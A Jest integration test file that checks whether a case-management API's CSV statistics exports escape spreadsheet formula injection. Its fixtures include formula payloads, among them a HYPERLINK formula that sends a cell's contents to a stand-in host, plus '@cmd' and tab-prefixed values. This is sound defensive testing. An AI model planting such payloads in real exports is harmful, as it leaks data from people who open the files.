import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Actor } from '@rujukan/domain';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { startApiTestApp, type ApiTestApp } from '../support/api-test-app.js';
import { CaseBuilder, caseworker } from '../fuzz/support/command-fixtures.js';

const admin: Actor = { userId: 'admin-1', role: 'administrator', agency: 'KEMENPPPA' };
const national: Actor = { userId: 'gt-ri', role: 'task_force_analyst', agency: 'GT-TPPO-RI' };

/** Text that a spreadsheet program would run as a formula (a leading tab or carriage return the domain trims from free text). */
const FORMULAS = ['=HYPERLINK("http://example.test/?"&A1,"Nunukan")', '+62-812', '-2+3+cmd', '@SUM(1+1)'];

/** A cell that begins a formula: at the start of a line or after a separator, not inside double quotes. */
function unescapedFormulaCells(csv: string): string[] {
  const cells: string[] = [];
  for (const line of csv.replace(/^\uFEFF/, '').split('\n')) {
    for (const cell of line.split(',')) if (/^[=+\-@\t\r]/.test(cell)) cells.push(cell);
  }
  return cells;
}

/**
 * Every CSV route of the statistics: a value beginning with =, +, -, @, a tab or a carriage return comes out
 * escaped as OWASP describes (a leading single quote, the cell in double quotes). Transit points come from a
 * fixed list today (a formula is refused with 400) but older events may hold any name; the other routes' text
 * columns are agency codes and region codes, which validation keeps plain. Values written into the read models
 * directly stand in for any that ever got past validation.
 */
describe('CSV exports of the statistics', () => {
  let api: ApiTestApp;
  const get = async (path: string, query: Record<string, string>) =>
    request(api.app.getHttpServer())
      .get(path)
      .query({ ...query, format: 'csv' })
      .set('Authorization', `Bearer ${await api.token(national)}`);

  beforeAll(async () => {
    api = await startApiTestApp({ withProjector: true, env: { STATS_MIN_CELL: '1', READ_WAIT_MS: '5000' } });
    await request(api.app.getHttpServer())
      .put('/admin/agencies/GT-TPPO-RI')
      .set('Authorization', `Bearer ${await api.token(admin)}`)
      .send({ name: 'Gugus Tugas PP TPPO Pusat', type: 'uptd_ppa' })
      .expect(200);
    // Transit points are port codes now: text that would run as a formula is refused at the door ...
    const caseId = await new CaseBuilder(api).inAssessment();
    const refused = await api.post(
      `/cases/${caseId}/record-assessment`,
      {
        assessmentId: 'assessment-1',
        indicators: {
          recruitmentMethods: ['job_offer'],
          meansOfControl: [],
          exploitationTypes: ['forced_labour'],
          destinationCountry: 'MY',
          transitPoints: FORMULAS,
          modus: [],
        },
        victimStatus: 'confirmed',
        riskLevel: 'high',
        needs: [],
      },
      caseworker,
    );
    expect(refused.status).toBe(400);
    expect(JSON.stringify(refused.body)).toContain('"field":"indicators.transitPoints"');
    const db = api.app.get(DataSource);
    const planted = randomUUID();
    // ... but events recorded before the list may carry any name: they count as other, never as text.
    await db.query(
      `INSERT INTO rm_stats_cases (case_id, opened_at, opened_year, opened_month, found_province, found_district, channel, stage, transit_points, last_revision)
       VALUES ($1, now(), extract(year FROM now()), 1, '64', '=1+2', 'port', 'intake', $2, 0)`,
      [planted, FORMULAS],
    );
    await db.query(`INSERT INTO rm_stats_stage_periods (case_id, entered_revision, stage, entered_at, last_revision) VALUES ($1, 0, 'intake', now(), 0)`, [
      planted,
    ]);
    await db.query(
      `INSERT INTO rm_stats_referrals (referral_id, case_id, found_province, found_district, to_agency, to_agency_type, service, sent_at, sent_year, response_deadline, last_revision)
       VALUES ($1, $3, '64', '6471', '@cmd', 'police', 'law_enforcement', now(), extract(year FROM now()), now() + interval '3 days', 0),
              ($2, $3, '64', '6471', E'\\tcmd', 'police', 'law_enforcement', now(), extract(year FROM now()), now() + interval '3 days', 0)`,
      [randomUUID(), randomUUID(), planted],
    );
    await db.query(
      `INSERT INTO rm_stats_services (case_id, service_id, service, provider_agency, requested_at, requested_year, due_by, last_revision)
       VALUES ($1, 'service-1', 'first_aid', '-1+1', now(), extract(year FROM now()), now() + interval '7 days', 0),
              ($1, 'service-2', 'first_aid', E'\\rcmd', now(), extract(year FROM now()), now() + interval '7 days', 0)`,
      [planted],
    );
  }, 120_000);
  afterAll(() => api?.close());

  it('GET /stats/cases?groupBy=transitPoint refuses a formula as a transit point, and counts the ones an older event carries as other, once', async () => {
    const csv = await get('/stats/cases', { groupBy: 'transitPoint' });
    expect(csv.status).toBe(200);
    // Transit points count by the port they name: text no port claims is never published, only the one case under other.
    for (const formula of FORMULAS) expect(csv.text).not.toContain(formula);
    expect(csv.text).toContain('\nother,1\n');
    expect(unescapedFormulaCells(csv.text)).toEqual([]);
  });

  it('GET /stats/cases?groupBy=foundDistrict escapes a region value', async () => {
    const csv = await get('/stats/cases', { groupBy: 'foundDistrict' });
    expect(csv.text).toContain(`"'=1+2"`);
    expect(unescapedFormulaCells(csv.text)).toEqual([]);
  });

  it('GET /stats/referrals?groupBy=toAgency escapes an agency', async () => {
    const csv = await get('/stats/referrals', { groupBy: 'toAgency' });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'@cmd"`);
    expect(csv.text).toContain(`"'\tcmd"`);
    expect(unescapedFormulaCells(csv.text)).toEqual([]);
  });

  it('GET /stats/stages?groupBy=foundDistrict escapes a region value', async () => {
    const csv = await get('/stats/stages', { groupBy: 'foundDistrict' });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=1+2"`);
    expect(unescapedFormulaCells(csv.text)).toEqual([]);
  });

  it('GET /stats/service-clock?groupBy=providerAgency escapes an agency', async () => {
    const csv = await get('/stats/service-clock', { groupBy: 'providerAgency' });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'-1+1"`);
    expect(csv.text).toContain(`"'\rcmd"`);
    expect(unescapedFormulaCells(csv.text)).toEqual([]);
  });
});
